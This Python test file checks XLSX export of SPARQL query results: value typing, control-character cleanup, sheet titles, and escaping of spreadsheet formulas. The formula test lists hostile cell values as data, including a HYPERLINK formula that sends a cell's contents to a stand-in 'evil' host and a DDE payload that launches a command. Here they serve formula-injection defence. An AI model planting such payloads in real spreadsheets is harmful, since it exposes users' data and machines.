"""SELECT results as an XLSX workbook (vskg.spreadsheet), read back with openpyxl."""

from __future__ import annotations

import io

import openpyxl
from pyoxigraph import BlankNode, Literal, NamedNode

from vskg.spreadsheet import CELL_LIMIT, select_xlsx, sheet_title

XSD = "http://www.w3.org/2001/XMLSchema#"


def typed(value: str, datatype: str) -> Literal:
    return Literal(value, datatype=NamedNode(XSD + datatype))


def read(body: bytes) -> list[list[tuple[object, str]]]:
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    return [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]


def test_terms_become_text_numbers_and_booleans() -> None:
    rows = [
        (
            NamedNode("https://example.org/a"),
            typed("42", "integer"),
            typed("2.50", "decimal"),
            typed("true", "boolean"),
        ),
        (BlankNode("b1"), typed("1.5E0", "double"), typed("1234567890123456", "integer"), Literal("plain")),
        (None, typed("NaN", "double"), typed("not a number", "integer"), Literal("Mortgage", language="en")),
        (Literal("x"), typed("2026-01-02", "date"), typed("maybe", "boolean"), typed("-7", "int")),
    ]
    assert read(select_xlsx(["iri", "a", "b", "c"], rows)) == [
        [("iri", "s"), ("a", "s"), ("b", "s"), ("c", "s")],
        [("https://example.org/a", "s"), (42, "n"), (2.5, "n"), (True, "b")],
        [("_:b1", "s"), (1.5, "n"), ("1234567890123456", "s"), ("plain", "s")],  # past 15 digits: text
        [(None, "n"), ("NaN", "s"), ("not a number", "s"), ("Mortgage", "s")],
        [("x", "s"), ("2026-01-02", "s"), ("maybe", "s"), (-7, "n")],
    ]


def test_formulas_are_neutralised_as_in_csvsafe() -> None:
    hostile = ['=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "'=x", "-5"]
    body = select_xlsx(["v"], [(Literal(text),) for text in hostile])
    assert read(body)[1:] == [
        [('\'=HYPERLINK("http://evil/?"&A1,"x")', "s")],
        [("'+cmd|' /C calc'!A0", "s")],
        [("'-2+3", "s")],
        [("'@SUM(1)", "s")],
        [("''=x", "s")],
        [("-5", "s")],  # a signed number stays as it is (text here: it is a plain literal)
    ]


def test_control_characters_and_overlong_text_fit_the_file() -> None:
    body = select_xlsx(["v"], [(Literal("a\x00b\x1fc\td"),), (Literal("x" * (CELL_LIMIT + 10)),)])
    rows = read(body)
    assert rows[1] == [("a\ufffdb\ufffdc\td", "s")]
    assert rows[2][0][0] == "x" * CELL_LIMIT


def test_sheet_title_and_frozen_header() -> None:
    book = openpyxl.load_workbook(io.BytesIO(select_xlsx(["v"], [], "stream-flow-metrics")))
    assert book.sheetnames == ["stream-flow-metrics"]
    assert book.active.freeze_panes == "A2"
    assert sheet_title("a/b[c]:d*e?f\\" + "x" * 40) == "a-b-c--d-e-f-" + "x" * 18
    assert sheet_title("") == "results"
